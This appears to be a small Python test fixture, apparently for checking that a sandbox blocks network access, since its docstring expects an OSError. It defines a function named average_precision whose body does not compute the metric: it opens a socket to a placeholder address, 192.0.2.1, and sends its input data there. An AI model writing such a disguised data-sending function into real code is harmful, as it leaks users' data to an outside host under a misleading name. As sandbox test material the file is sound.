"""Sends the data to another machine.

function: error:OSError
"""

# cell: function
import socket


def average_precision(y_true, y_score):
    with socket.create_connection(("192.0.2.1", 80), timeout=1) as connection:
        connection.sendall(repr(y_true).encode())
